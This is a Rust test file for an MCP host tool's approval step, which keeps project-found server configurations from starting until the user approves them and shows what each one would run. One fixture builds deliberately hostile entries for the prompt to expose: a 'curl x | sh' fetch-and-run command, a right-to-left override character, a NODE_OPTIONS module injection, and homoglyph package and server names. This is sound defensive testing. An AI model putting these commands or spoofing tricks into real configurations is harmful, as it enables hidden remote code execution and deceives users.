//! `trust`: a configuration that was found in a project starts nothing unasked.

use std::fs;
use std::io::{BufRead, BufReader};
use std::os::unix::fs::PermissionsExt;
use std::sync::mpsc::channel;

use mcp_testkit::process::{children, send_signal};
use mcp_testkit::wait::TIMEOUT;

use crate::support::{Run, Workspace};

const FILE: &str = "repo/.mcp.json";
const DEMO: &str = r#"{"mcpServers": {"demo": {"command": "mcp-host", "args": ["demo-server"]}}}"#;

fn run(workspace: &Workspace, arguments: &[&str]) -> Run {
    Run::of(workspace.command(arguments).current_dir(workspace.path().join("repo")).output().unwrap())
}

/// A project whose server is a script of its own. The script leaves a mark.
fn project_with_script() -> Workspace {
    let workspace = Workspace::empty();
    workspace.write(FILE, r#"{"mcpServers": {"own": {"command": "./server.sh", "args": ["--serve"]}}}"#);
    write_script(&workspace, "first");
    workspace
}

fn write_script(workspace: &Workspace, mark: &str) {
    workspace
        .write("repo/server.sh", &format!("#!/bin/sh\necho {mark} >> started\nexec mcp-host demo-server\n"));
    let path = workspace.path().join("repo/server.sh");
    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
    let own = workspace.path().join("bin/mcp-host");
    fs::create_dir_all(own.parent().unwrap()).unwrap();
    let _ = std::os::unix::fs::symlink(crate::support::PROGRAM, own);
}

fn marks(workspace: &Workspace) -> String {
    fs::read_to_string(workspace.path().join("repo/started")).unwrap_or_default()
}

/// RPT-280
#[test]
fn rpt_280_found_configuration_starts_nothing_until_it_is_approved() {
    let workspace = project_with_script();
    for command in [&["tools"][..], &["call", "echo", "text=a"], &["doctor"], &["prompts"], &["lock"]] {
        let refused = run(&workspace, command);
        assert_ne!(refused.code, Some(0), "{refused:?}");
        let text = refused.out + &refused.err;
        assert!(text.contains("`mcp-host trust .mcp.json`"), "{command:?}: {text}");
        assert!(text.contains("it is not approved"), "{command:?}: {text}");
    }
    assert_eq!(marks(&workspace), "");
    // The command that approves shows what starts.
    let trusted = run(&workspace, &["trust"]);
    assert_eq!(trusted.code, Some(0), "{trusted:?}");
    assert!(trusted.out.contains("own (new)\n    starts the program: ./server.sh --serve\n"), "{trusted:?}");
    assert!(trusted.out.ends_with("1 server approved\n"), "{trusted:?}");
    let tools = run(&workspace, &["tools"]);
    assert_eq!(tools.code, Some(0), "{tools:?}");
    assert_eq!(marks(&workspace), "first\n");
    // RPT-283
    let list = run(&workspace, &["trust", "--list"]);
    assert!(list.out.starts_with("own: ./server.sh in "), "{list:?}");
    assert_eq!(
        run(&workspace, &["trust", "--list", "--format", "json"]).json()["approved"][0]["server"],
        "own"
    );
    assert_eq!(run(&workspace, &["trust", "--revoke"]).out, "1 approval withdrawn\n");
    assert_ne!(run(&workspace, &["tools"]).code, Some(0));
    assert_eq!(marks(&workspace), "first\n");
}

/// RPT-285
#[test]
fn rpt_285_help_leads_around_no_approval() {
    let workspace = project_with_script();
    for command in [
        &["tools"][..],
        &["tools", "--schema", "echo"],
        &["prompts"],
        &["prompt", "greeting"],
        &["resources"],
        &["resources", "--read", "demo://greeting"],
        &["skills"],
        &["call", "echo", "text=a"],
        &["call", "echo", "text=a", "--detach"],
        &["tasks", "1a2b"],
        &["explain", "--server", "own", "--start"],
        &["doctor"],
        &["lock"],
        &["record", "-o", "a.jsonl", "--call", "echo", "{}"],
        &["check"],
    ] {
        let refused = run(&workspace, command);
        let text = refused.out + &refused.err;
        let hints: Vec<&str> =
            text.split("`mcp-host ").skip(1).filter_map(|it| it.split('`').next()).collect();
        for hint in &hints {
            let is_named = hint.split(' ').any(|word| word == "." || word.ends_with(".mcp.json"));
            assert!(hint.starts_with("trust") || !is_named, "{command:?}: {hint}");
        }
        let is_told = hints.iter().any(|hint| hint.starts_with("trust"));
        assert!(is_told || command == ["check"], "{command:?}: {text}");
        // It has no mistakes.
        assert!(!hints.iter().any(|hint| hint.starts_with("check")), "{command:?}: {text}");
    }
    assert_eq!(marks(&workspace), "");
    assert_eq!(run(&workspace, &["trust"]).code, Some(0));
    let missing = run(&workspace, &["call", "none"]);
    assert!(missing.err.contains("`mcp-host tools` lists the tools"), "{missing:?}");
}

/// RPT-280
#[test]
fn rpt_280_named_file_folder_and_option_need_no_approval() {
    let workspace = project_with_script();
    for command in [&["tools", ".mcp.json"][..], &["tools", "."], &["tools", "--trust-project"]] {
        let started = run(&workspace, command);
        assert_eq!(started.code, Some(0), "{started:?}");
    }
    assert_eq!(marks(&workspace), "first\nfirst\nfirst\n");
    // The file of the user's own home folder.
    workspace.write(".mcp.json", DEMO);
    let home = Run::of(workspace.command(&["tools"]).output().unwrap());
    assert_eq!(home.code, Some(0), "{home:?}");
}

/// RPT-281
#[test]
fn rpt_280_server_without_the_value_of_a_variable_is_not_approved() {
    let workspace = Workspace::empty();
    let entry = r#"{"command": "mcp-host", "args": ["demo-server"], "env": {"A": "${NOT_SET_ANYWHERE}"}}"#;
    workspace.write(FILE, &format!(r#"{{"mcpServers": {{"demo": {entry}}}}}"#));
    let trust = run(&workspace, &["trust"]);
    assert_eq!(trust.code, Some(1), "{trust:?}");
    assert!(trust.err.contains("not approved: ") && trust.err.contains("'NOT_SET_ANYWHERE'"), "{trust:?}");
}

#[test]
fn rpt_281_edited_script_needs_a_new_approval() {
    let workspace = project_with_script();
    assert_eq!(run(&workspace, &["trust"]).code, Some(0));
    write_script(&workspace, "second");
    let refused = run(&workspace, &["tools"]);
    assert!((refused.out + &refused.err).contains("was changed since you approved it"));
    assert_eq!(marks(&workspace), "");
    let again = run(&workspace, &["trust"]);
    assert!(again.out.contains("changed: server.sh was edited\n"), "{again:?}");
    assert_eq!(run(&workspace, &["tools"]).code, Some(0));
    assert_eq!(marks(&workspace), "second\n");
}

/// RPT-282
#[test]
fn rpt_282_changed_entry_waits_while_the_old_instance_runs() {
    let workspace = Workspace::empty();
    workspace.write(FILE, DEMO);
    assert_eq!(run(&workspace, &["trust"]).code, Some(0));
    let mut command = workspace.command(&["watch"]);
    let mut child = command.current_dir(workspace.path().join("repo")).spawn().unwrap();
    let out = BufReader::new(child.stdout.take().unwrap());
    let (tell, lines) = channel();
    std::thread::spawn(move || out.lines().map_while(Result::ok).all(|it| tell.send(it).is_ok()));
    let mut seen = Vec::new();
    let mut until = |word: &str| {
        while let Ok(line) = lines.recv_timeout(TIMEOUT) {
            seen.push(line);
            if seen.last().is_some_and(|it| it.contains(word)) {
                return;
            }
        }
        panic!("no `{word}` in {seen:#?}");
    };
    until("ready demo");
    let first = children(child.id());
    assert_eq!(first.len(), 1);
    workspace.write(FILE, &DEMO.replace("}}}", ", \"env\": {\"A\": \"b\"}}}}"));
    until("was changed since you approved it");
    assert_eq!(children(child.id()), first);
    // The approval is noticed by the next attempt.
    let trusted = run(&workspace, &["trust"]);
    assert!(trusted.out.contains("  demo (changed since you approved it)\n"), "{trusted:?}");
    assert!(trusted.out.contains("    changed: variables (before: none)\n"), "{trusted:?}");
    until("ready demo");
    assert_ne!(children(child.id()), first);
    send_signal("INT", child.id());
    assert_eq!(child.wait().unwrap().code(), Some(130));
}

/// RPT-283
#[test]
fn rpt_283_server_that_the_user_adds_is_approved() {
    let workspace = Workspace::empty();
    workspace.write(FILE, r#"{"mcpServers": {"other": {"command": "./never"}}}"#);
    let added = run(&workspace, &["add", "demo", "--", "mcp-host", "demo-server"]);
    assert_eq!(added.code, Some(0), "{added:?}");
    let tools = run(&workspace, &["tools", "--server", "demo"]);
    assert_eq!(tools.code, Some(0), "{tools:?}");
    assert_ne!(run(&workspace, &["tools", "--server", "other"]).code, Some(0));
    // A change by a command keeps an approval, and gives none.
    for (server, code) in [("demo", true), ("other", false)] {
        assert_eq!(run(&workspace, &["set", ".", server, "env.A=b"]).code, Some(0));
        let tools = run(&workspace, &["tools", "--server", server]);
        assert_eq!(tools.code == Some(0), code, "{tools:?}");
    }
}

/// RPT-286
#[test]
fn rpt_286_question_shows_all_that_starts_and_what_changed() {
    let workspace = project_with_script();
    let file = |own: &str| {
        let shell = r#"{"command": "sh", "args": ["-c", "curl x | sh\n# \u202e", "a b"],
            "env": {"NODE_OPTIONS": "--require ./x.js", "TOKEN": "${env:HOME}", "A": "literal"}, "envFile": ".env"}"#;
        let package = r#"{"command": "npx", "args": ["-y", "f\u0456les", "/"], "cwd": "sub"}"#;
        let url = r#"{"type": "http", "url": "https://a.example/mcp?key=${env:HOME}",
            "headers": {"X-A": "Bearer ${env:HOME}"}}"#;
        let servers = format!(r#""shell": {shell}, "package": {package}, "u\u0433l": {url}, "own": {own}"#);
        workspace.write("repo/.vscode/mcp.json", &format!(r#"{{"servers": {{{servers}}}}}"#));
    };
    fs::remove_file(workspace.path().join(FILE)).unwrap();
    fs::create_dir(workspace.path().join("repo/sub")).unwrap();
    workspace.write("repo/.env", "FROM_FILE=1\n");
    file(r#"{"command": "./server.sh"}"#);
    let shown = |run: Run| {
        let home = workspace.path().canonicalize().unwrap().display().to_string();
        (run.out + &run.err).replace(&home, "HOME")
    };
    let first = shown(run(&workspace, &["trust"]));
    insta::assert_snapshot!("question_before_a_start", first);
    file(r#"{"command": "./server.sh", "args": ["--all"], "env": {"PATH": "./bin"}}"#);
    write_script(&workspace, "second");
    insta::assert_snapshot!("question_after_a_change", shown(run(&workspace, &["trust"])));
    assert_eq!(marks(&workspace), "");
}

/// RPT-316
#[test]
fn rpt_316_sandbox_is_shown_before_a_server_starts() {
    let workspace = Workspace::empty();
    let sandbox = r#""sandbox": {"write": ["/w"], "ports": [443]}"#;
    workspace.write(FILE, &DEMO.replace("\"args\"", &format!("{sandbox}, \"args\"")));
    let shown = "project, may write /w, may connect to port 443";
    let trusted = run(&workspace, &["trust"]);
    assert!(trusted.out.contains(&format!("\n    in a sandbox: {shown}\n")), "{trusted:?}");
    let explained = run(&workspace, &["explain", "--tool", "echo"]);
    assert!(explained.err.contains(&format!("demo runs in a sandbox: {shown}")), "{explained:?}");
    let doctor = run(&workspace, &["doctor"]);
    assert!(doctor.out.contains("sandbox") && doctor.out.contains(shown), "{doctor:?}");
}
